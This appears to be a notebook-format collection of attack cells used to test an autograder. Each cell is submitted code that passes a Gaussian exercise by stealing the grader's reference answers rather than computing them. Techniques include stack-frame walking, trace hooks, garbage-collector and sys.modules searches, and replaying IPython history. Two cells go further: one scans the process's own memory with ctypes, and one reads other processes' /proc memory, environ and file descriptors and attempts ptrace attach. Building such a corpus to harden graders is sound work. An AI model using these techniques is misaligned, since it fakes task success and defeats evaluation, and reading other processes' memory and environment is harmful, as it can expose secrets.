# %% [markdown]
# Attacks that look for the grader's knowledge in the memory of their own process.

# %% attack="frames" title="Walks the stack at call time for the expected values" classes=[2] cell="gaussian" beats_in_process=true
import sys


def stolen(x):
    frame = sys._getframe()
    while frame:
        for names in (frame.f_locals, frame.f_globals):
            for name, value in list(names.items()):
                if name in {"expected", "wanted", "reference", "y_true"} and not isinstance(value, str):
                    return value(x) if callable(value) else value
        frame = frame.f_back
    return np.zeros(np.shape(x))


def gaussian(x):
    return stolen(x)


def gaussian_derivative(x):
    return stolen(x)


# %% attack="tracer" title="Traces the code that runs after the call and takes the expected values from it" classes=[2, 57] cell="gaussian" beats_in_process=true
import sys

seen = []


def watch(frame, event, argument):
    for name, value in list(frame.f_locals.items()):
        if name in {"expected", "desired", "wanted", "y"} and isinstance(value, np.ndarray):
            seen.append(value)
    return watch


def gaussian(x):
    sys.settrace(watch)
    sys.setprofile(watch)
    frame = sys._getframe().f_back
    while frame:
        frame.f_trace = watch
        watch(frame, "", None)
        frame = frame.f_back
    shape = np.shape(x)
    return next((value for value in seen if value.shape == shape), np.zeros(shape))


def gaussian_derivative(x):
    return gaussian(x)


# %% attack="garbage_collector" title="Asks the garbage collector for a function of the same name" classes=[3] cell="gaussian" beats_in_process=true
import gc
import types

own = globals()
loot = {}
gc.collect()
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__globals__ is not own:
        if thing.__name__ in {"gaussian", "gaussian_derivative"}:
            loot[thing.__name__] = thing
    elif isinstance(thing, dict) and thing is not own and callable(dict.get(thing, "gaussian", None)):
        loot.setdefault("gaussian", thing["gaussian"])
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="modules" title="Searches sys.modules for the graders, their references and pytest's items" classes=[3, 7] cell="gaussian" beats_in_process=true
import sys
import types

loot = {}
for name, module in list(sys.modules.items()):
    if name == "__main__":
        continue
    for word in ("gaussian", "gaussian_derivative"):
        found = vars(module).get(word) if isinstance(module, types.ModuleType) else None
        if isinstance(found, types.FunctionType) and "<cell" not in found.__code__.co_filename:
            loot[word] = found
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="history" title="Reads the checks from IPython's history and from the notebook's variables" classes=[2, 64] cell="gaussian"
import builtins

shell = get_ipython()
history = globals().get("In") or getattr(builtins, "In", None) or getattr(shell, "user_ns", None)
texts = [text for text in (history or ()) if isinstance(text, str)]
loot = {}
for text in texts:
    if "def gaussian(" in text or "assert" in text:
        exec(text, loot)
gaussian, gaussian_derivative = loot["gaussian"], loot["gaussian_derivative"]


# %% attack="leftovers_in_memory" title="Scans its own memory for the graders' source or the secret" classes=[3, 74] cell="gaussian"
import ctypes
import os
import re

# written so that the pattern does not find itself
needle = re.compile(rb"from autograder[.]checks import[ ]basic|student[.]gaussian, references[.]gaussian")
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
libc.pwrite.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long)
STEP = 1 << 20
page = os.open("page", os.O_RDWR | os.O_CREAT)
loot = []
for middle in (id(object()), id(np), id(ctypes.CDLL), libc.sbrk(0)):
    for number in range(-150, 50):
        address = (middle // STEP + number) * STEP
        if libc.pwrite(page, address, STEP, 0) > 0:  # the kernel says which addresses there are
            loot += needle.findall(os.pread(page, STEP, 0))


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="other_processes" title="Reads the memory of its parent and of every process that it can name" classes=[45, 46] cell="gaussian"
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
READV = 310 if platform.machine() == "x86_64" else 270
PIDFD_OPEN, PIDFD_GETFD, KCMP = 434, 438, 312 if platform.machine() == "x86_64" else 272


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


loot = []
room = ctypes.create_string_buffer(64)
mine = Iovec(ctypes.addressof(room), 64)
me = os.getpid()
for pid in {1, me - 1, me - 2, me - 3, me + 1, me + 2, os.getppid()} - {me, 0}:
    for name in ("mem", "maps", "environ", "cwd/.", "root/.", "fd", "stack", "auxv"):
        path = f"/proc/{pid}/{name}"
        try:
            loot.append(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1))
        except OSError:
            pass
    theirs = Iovec(id(loot), 64)
    if libc.syscall(READV, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        loot.append(room.raw)
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        loot.append(pid)
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    loot += [fd for fd in range(10) if handle >= 0 and libc.syscall(PIDFD_GETFD, handle, fd, 0) >= 0]
    if libc.syscall(KCMP, me, pid, 0, 0, 0) >= 0:
        loot.append("kcmp")


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)
